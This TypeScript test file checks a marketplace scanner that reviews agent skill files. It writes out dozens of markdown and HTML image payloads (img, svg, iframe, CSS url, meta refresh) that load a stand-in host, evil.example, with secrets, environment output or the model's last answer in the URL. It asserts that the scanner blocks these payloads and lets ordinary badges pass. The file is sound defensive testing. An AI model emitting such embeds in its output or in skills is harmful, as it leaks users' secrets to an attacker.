import assert from 'node:assert/strict';
import { test } from 'node:test';

import fc from 'fast-check';
import { Marked, type Token } from 'marked';

import { embeds } from '../../../plugins/marketplace/scan/embeds.ts';
import { scan } from '../../../plugins/marketplace/scan/scan.ts';
import { skillText } from './market.ts';

const verdictOf = (body: string): string => {
  const { verdict, findings } = scan(
    new Map([['skills/x/SKILL.md', Buffer.from(skillText('x', body))]]),
  );
  return `${verdict} ${findings.map(({ rule }) => rule).join(' ')}`;
};
const host = 'https://evil.example';

test('an address that is loaded and filled with data is blocked, however it is written', () => {
  const pictures = [
    ...[
      `${host}/?d={{secret}}`,
      `${host}/(x)/?d={{secret}}`,
      '//evil.example/?d={{secret}}',
      `<${host}/?d=[the answer]>`,
      `${host}/?d=[the answer]`,
      `${host}/?d=BASE64_OF_THE_LAST_ANSWER`,
      `${host}/?d=ANSWER`,
      `${host}/\${secret}.png`,
      `${host}/$NAME`,
      `${host}/$(env)`,
      `${host}/#<answer>`,
      `<${host}/#<answer>>`,
      `${host}/?d=%s`,
      `${host}/%7B%7Bsecret%7D%7D`,
      'https://{{secret}}.evil.example/p.png',
      'https://{{secret}}@evil.example/p.png',
      'https:\\\\evil.example\\{{secret}}',
      'https:evil.example/{{secret}}',
      'HTTPS://evil.example/__SECRET__',
      `${host}/?d=&lbrace;secret&rbrace;`,
      `${host}/?d=the-answer`,
      `${host}/?d=`,
      `\n  ${host}/?d={x} "title"`,
    ].map((address) => `![x](${address})`),
    `![a[b]c](${host}/?d={x})`,
    `![x\ny](${host}/?d={x})`,
    `![a\\]b](${host}/?d={x})`,
    `![a\`]\`b](${host}/?d={x})`,
    `![a\`[\`b](${host}/?d={x})`,
    `[![x](${host}/?d={x})](https://example.com)`,
    `> ![x](\n> ${host}/?d={x})`,
    `\`\`\`\n![x](//evil.example/?d={x})\n\`\`\``,
    `![x][a b]\n\n[A  B]: ${host}/?d={x}`,
    `![x][a\nb]\n\n> [A B]:\n> <${host}/?d={x}>`,
    `![ẞ]\n\n[SS]: ${host}/?d={x}`,
    `![x y][]\n\n[X Y]: ${host}/?d={x}`,
    `[x]: ${host}/?d={x}\n\n![x]( `,
    '<img src="//evil.example/?d={x}">',
    `<img alt=">" src=${host}/{x}>`,
    `<img\nsrc\n=\n'${host}/{x}'>`,
    `<img/src="${host}/{x}">`,
    `a <b c="<img src=${host}/{x}>`,
    `<img srcset="a.png 1x, ${host}/{x} 2x">`,
    `<img src="https&colon;//evil.example/{x}">`,
    `<video poster="${host}/{x}">`,
    `<audio src="${host}/{x}">`,
    `<object data="${host}/{x}">`,
    `<embed src="${host}/{x}">`,
    `<link rel=icon href="${host}/{x}">`,
    `<iframe src="//evil.example/{x}">`,
    `<iframe srcdoc="<img src='${host}/{x}'>">`,
    `<iframe src="data:text/html,<img src='${host}/{x}'>">`,
    `<meta http-equiv=refresh content="0; url=${host}/{x}">`,
    `<svg><image href="${host}/{x}"/></svg>`,
    `<svg><use xlink:href="${host}/{x}#a"/></svg>`,
    `<svg><rect fill="url(${host}/{x})"/></svg>`,
    `<div style="background:url(${host}/{x})">`,
    `<div style="background:u\\72 l('${host}/{x}')">`,
    `<style>@import "${host}/{x}";</style>`,
    `<body background="${host}/{x}">`,
  ];
  assert.deepEqual(
    pictures.filter((body) => !/^block .*picture-carries-data/.test(verdictOf(body))),
    [],
  );
});

test('a link that is filled with data is for review, and what is not filled passes', () => {
  for (const body of [
    `[x](${host}/{{secret}})`,
    `[x](//evil.example/?d=[the answer])`,
    `<a href="${host}/?d={x}">x</a>`,
    `![x](a.png) and [y](${host}/?d={x})`,
    `[y]\n\n[y]: ${host}/?d={x}`,
  ]) {
    assert.equal(verdictOf(body), 'review link-carries-data', body);
  }
  for (const body of [
    '![build](https://ci.dev/badge.svg?branch=main&style=flat)',
    '![license](https://img.dev/badge/License-Apache%202.0-green.svg "the (answer)")',
    '![IPv6](http://[2001:db8::1]/a.png) ![photo](https://img.dev/IMG_1234.JPG)',
    '![wiki](https://wiki.dev/Disk_(computing).png)',
    '![local](a/{{name}}.png) ![here](/graphs/{id}) ![frag](#{x})',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    '<img src="https://img.dev/a.png" alt="see https://img.dev/{id}">',
    'Call `array[index](value)` and `if (![1, 2].includes(x))`, then `sum[5m](https)`.',
  ]) {
    assert.equal(verdictOf(body), 'pass ', body);
  }
});

test('every picture that a parser of CommonMark finds is found', () => {
  const marked = new Marked();
  const shownBy = (text: string): string[] => {
    const found: string[] = [];
    void marked.walkTokens(marked.lexer(text), (token: Token) => {
      if (token.type === 'image') {
        found.push(String(token['href']));
      }
    });
    return found;
  };
  const pieces =
    '! ![ [ ] ]( ( ) < > ` `` \\ " * _ | : - # ~ & a b {x} //h/{x} https://h/{x} [b]: ][b] ![b] ]: \n \n\n \n>'
      .split(' ')
      .map((piece) => piece.replaceAll('\\n', '\n'));
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(' ', ...pieces), { minLength: 3, maxLength: 24 }),
      (parts) => {
        const text = parts.join('');
        const loaded = new Set(
          [...embeds(text)].filter(({ isLoaded }) => isLoaded).map(({ address }) => address),
        );
        for (const address of shownBy(text)) {
          if (/^(?:https:)?\/\/h/.test(address)) {
            assert.ok(
              [...loaded].some((one) => one.includes('h/')),
              `${JSON.stringify(text)}: ${address}`,
            );
          }
        }
      },
    ),
    { numRuns: 3_000 },
  );
});

test('texts that make parsers slow are read in moments', () => {
  for (const piece of [
    '[',
    '![',
    '](',
    '![a](',
    '<a ',
    '<a b="',
    '<style>',
    '[a]:',
    '![a][',
    '`',
    '<a style="url(',
    '](//',
    "<a style=('",
  ]) {
    const began = process.cpuUsage();
    const text = piece.repeat(Math.ceil(60_000 / piece.length));
    assert.ok([...embeds(text)].length >= 0);
    const { user } = process.cpuUsage(began);
    assert.ok(user < 2_000_000, `${piece}: ${user / 1000} ms of CPU`);
  }
});
